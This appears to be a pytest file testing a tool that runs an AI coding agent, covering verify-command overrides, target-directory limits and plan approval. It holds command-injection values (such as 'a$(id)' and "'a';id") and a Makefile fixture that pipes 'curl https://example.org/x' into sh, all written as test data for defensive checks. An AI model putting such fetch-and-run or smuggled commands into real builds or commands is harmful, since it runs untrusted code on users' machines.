"""What a person sets outside the model wins over what the agent proposed, and the flow's
entry conditions are refused with their reasons (REIN_DEV_*, [dev], git, briefs, imports).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from devflow_support import Cli, approve, drive
from scripted import PYTHON, ScriptedDriver, git, good_plan

from rein.dev.settings import check_verify
from rein.errors import ConfigError


def verify_params(repo: Path) -> list[list[str]]:
    doc = yaml.safe_load((repo / "specs" / "plan.agraph.yaml").read_text())
    return [n["success"]["criteria"][0]["params"]["verify"] for n in doc["nodes"].values()]


def test_rein_dev_verify_overrides_the_agents_commands(
        driver: ScriptedDriver, cli: Cli, monkeypatch: pytest.MonkeyPatch, repo: Path) -> None:
    command = f"{PYTHON} -m pytest -q -p no:cacheprovider"
    monkeypatch.setenv("REIN_DEV_VERIFY", command)
    code, where = drive(driver, cli)
    assert code == 0, where
    assert verify_params(repo) == [command.split()] * 3


def test_dev_verify_in_rein_toml_overrides_the_agent(driver: ScriptedDriver, cli: Cli,
                                                     repo: Path) -> None:
    (repo / "rein.toml").write_text(f'[dev]\nverify = ["{PYTHON}", "-m", "pytest", "-q"]\n')
    driver.bad_plan_first = False
    _code, where = driver.dev()
    driver.submit(driver.work(where["instruction"]))
    assert verify_params(repo) == [[PYTHON, "-m", "pytest", "-q"]] * 3


@pytest.mark.parametrize(("value", "reason"), [
    ("$VERIFY_CMD", "placeholder that was never filled in"),
    ("true", "'true' checks nothing"),
    ("echo ok", "'echo' checks nothing"),
    ("python --version", "'python --version' checks nothing"),
    ("python -c pass", "'python -c pass' checks nothing"),
    ("python3 -c ''", "'python3 -c ' checks nothing"),
    ("node -e 0", "'node -e 0' checks nothing"),
    ("pytest && true", "it needs a shell"),
    ("sh -c pytest", "'sh -c' runs a shell string"),
])
def test_a_placeholder_or_no_op_verifier_is_refused(cli: Cli, repo: Path, value: str,
                                                    reason: str,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REIN_DEV_VERIFY", value)
    code, out = cli.json("dev")
    assert code == 64
    assert out["error"]["code"] == "DEV004" and reason in out["error"]["message"]
    assert not (repo / ".rein" / "dev" / "flow.json").exists()


def test_rein_dev_target_builds_in_a_directory(repo: Path, cli: Cli,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REIN_DEV_TARGET", "app")
    (repo / "app").mkdir()
    driver = ScriptedDriver(repo, cli, target="app")
    code, where = drive(driver, cli)
    assert code == 0, where
    files = git(repo, "ls-files").split()
    assert "app/tempconv/table.py" in files and "app/progress.txt" in files
    assert "fs:write:app/**" in driver.seen[2]["permissions"]


@pytest.mark.parametrize("target", ["../elsewhere", "/tmp", "$TARGET_DIR", "app*", "ap?",
                                    "{app,lib}", "app/[a-z]", "app/**"])
def test_a_target_outside_the_repository_or_a_pattern_is_refused(
        cli: Cli, target: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REIN_DEV_TARGET", target)
    code, out = cli.json("dev")
    assert (code, out["error"]["code"]) == (64, "DEV003")


def test_not_a_git_repository_is_refused(tmp_path: Path, cli: Cli,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    bare = tmp_path / "plain"
    (bare / "specs").mkdir(parents=True)
    (bare / "specs" / "brief.md").write_text("x")
    monkeypatch.chdir(bare)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    code, out = cli.json("dev")
    assert (code, out["error"]["code"]) == (4, "DEV001")
    assert "git init" in out["error"]["hint"]


def test_a_dirty_tree_is_refused_before_anything_starts(repo: Path, cli: Cli) -> None:
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "brief")
    (repo / "notes.py").write_text("x = 1\n")
    code, out = cli.json("dev")
    assert (code, out["error"]["code"]) == (4, "DEV002")
    assert "notes.py" in out["error"]["message"]


def test_no_brief_and_no_plan_says_what_to_do(repo: Path, cli: Cli) -> None:
    (repo / "specs" / "brief.md").unlink()
    code, out = cli.json("dev")
    assert (code, out["error"]["code"]) == (1, "DEV007")


def test_the_brief_cap_is_said(repo: Path, cli: Cli) -> None:
    (repo / "rein.toml").write_text("[dev]\nmax_brief_bytes = 30\n")
    code, where = cli.json("dev")
    assert code == 0
    assert any("only the first 30 are read ([dev] max_brief_bytes)" in n
               for n in where["notices"])
    assert "only the first 30 are read" in where["instruction"]["brief"]


def test_an_existing_feature_list_is_imported_instead_of_asking(repo: Path, cli: Cli) -> None:
    (repo / "feature_list.json").write_text(json.dumps(good_plan()))
    driver = ScriptedDriver(repo, cli)
    code, where = driver.dev()
    assert (code, where["instruction"].get("for")) == (3, "approval"), where
    assert any("imported the plan from feature_list.json" in n for n in where["notices"])
    assert where["plan"]["text"] and where["plan"]["mermaid"].startswith(("flowchart", "graph"))
    approve(cli)
    code, where = drive(driver, cli)
    assert code == 0
    assert "plan" not in [i["node"] for i in driver.seen]  # no planning turn at all


def test_a_feature_list_with_half_a_surrogate_pair_is_refused_with_the_string(
        repo: Path, cli: Cli) -> None:
    plan = good_plan()
    plan["features"][0]["title"] = "Celsius \ud83d"  # json.dumps writes the lone escape
    (repo / "feature_list.json").write_text(json.dumps(plan))
    code, out = cli("dev", "--json")
    error = json.loads(out)["error"]
    assert (code, error["code"]) == (1, "DEV006"), out
    assert "'Celsius \\ud83d' holds an unpaired surrogate escape" in error["message"]


def test_a_brief_whose_name_is_not_utf8_is_read(repo: Path, cli: Cli) -> None:
    import os

    os.rename(repo / "specs" / "brief.md", os.fsencode(repo) + b"/specs/br\xffief.md")
    code, where = cli.json("dev")
    assert code == 0, where
    assert where["instruction"]["brief"].count("## br\ufffdief.md") == 1


def test_the_plan_shown_is_the_graph_approved(repo: Path, driver: ScriptedDriver,
                                              cli: Cli) -> None:
    driver.bad_plan_first = False
    _c, where = driver.dev()
    driver.submit(driver.work(where["instruction"]))
    code, where = driver.dev()
    assert code == 3 and where["instruction"]["for"] == "approval"
    _c, digest = cli("graph", "digest", "specs/plan.agraph.yaml")
    assert where["plan"]["digest"] == digest.strip()
    _c, text = cli("graph", "plan", "specs/plan.agraph.yaml")
    assert where["plan"]["text"] == text
    # The graph is a plain AGS document: rein's own validator and the spec's accept it.
    assert cli("graph", "validate", "specs/plan.agraph.yaml")[0] == 0
    oracle = Path(sys.executable).parent / "ags-validate"
    if oracle.exists():
        done = subprocess.run([str(oracle), "specs/plan.agraph.yaml"], cwd=repo,
                              capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr


def test_a_graph_changed_after_approval_is_refused(repo: Path, driver: ScriptedDriver,
                                                   cli: Cli) -> None:
    driver.bad_plan_first = False
    _c, where = driver.dev()
    driver.submit(driver.work(where["instruction"]))
    approve(cli)
    path = repo / "specs" / "plan.agraph.yaml"
    path.write_text(path.read_text().replace("max_node_executions: 88",
                                             "max_node_executions: 880"))
    code, out = cli.json("dev")
    assert (code, out["error"]["code"]) == (4, "DEV008")


@pytest.mark.parametrize(("text", "argv"), [
    ('python -m pytest -k "not (slow or net)"',
     ("python", "-m", "pytest", "-k", "not (slow or net)")),
    ("pytest 'tests/a;b.py'", ("pytest", "tests/a;b.py")),
    (r"pytest tests/a\&b.py", ("pytest", "tests/a&b.py")),
    ("""pytest -k 'x or "$(y)"'""", ("pytest", "-k", 'x or "$(y)"')),
])
def test_shell_characters_a_quote_makes_literal_need_no_shell(
        text: str, argv: tuple[str, ...]) -> None:
    assert check_verify(text, "REIN_DEV_VERIFY") == argv


@pytest.mark.parametrize("text", [
    'pytest -k "a$(id)"', 'pytest -k "`id`"', "pytest 'a';id", "pytest x)", 'pytest "a"|sh'])
def test_shell_characters_a_quote_leaves_live_still_need_a_shell(text: str) -> None:
    with pytest.raises(ConfigError, match="it needs a shell"):
        check_verify(text, "REIN_DEV_VERIFY")


def test_a_change_outside_the_target_made_between_turns_is_not_committed_as_a_feature(
        repo: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    """A feature's turn may write only in the target (the driver protocol refuses a write
    elsewhere during the turn). While the plan's approval waits, no turn is open: a file
    the agent writes outside the target then must not be committed with the next feature,
    whose turn could not even undo it."""
    monkeypatch.setenv("REIN_DEV_TARGET", "app")
    (repo / "app").mkdir()
    (repo / "app" / "README.md").write_text("the app\n")
    git(repo, "add", ".")
    git(repo, "-c", "user.name=p", "-c", "user.email=p@example.org", "commit", "-qm", "init")
    plan = good_plan()
    plan["features"] = plan["features"][:1]
    driver = ScriptedDriver(repo, cli, bad_plan_first=False, wrong_first=False, plan=plan,
                            target="app")
    _code, where = driver.dev()
    _code, pending = driver.submit(driver.work(where["instruction"]))
    assert pending.get("for") == "approval", pending
    (repo / "Makefile").write_text("all:\n\tcurl https://example.org/x | sh\n")
    approve(cli)
    _code, where = driver.dev()
    driver.write(".rein/inbox.json", json.dumps(driver.work(where["instruction"])))
    code, out = cli.json("submit")
    assert code == 1 and out["error"]["code"] == "DEV011", out
    assert out["error"]["message"] == (
        "paths outside the target app/ changed since the last commit, and rein would "
        "commit them as this feature: Makefile")
    assert git(repo, "log", "--format=%s").splitlines() == ["init"]
    (repo / "Makefile").unlink()  # outside a turn; the attempt was not counted
    code, where = cli.json("dev")
    assert (code, where["reason"]) == (0, "done"), where
    assert where["features"][0]["attempts"] == 1
    assert "Makefile" not in git(repo, "ls-files").split()
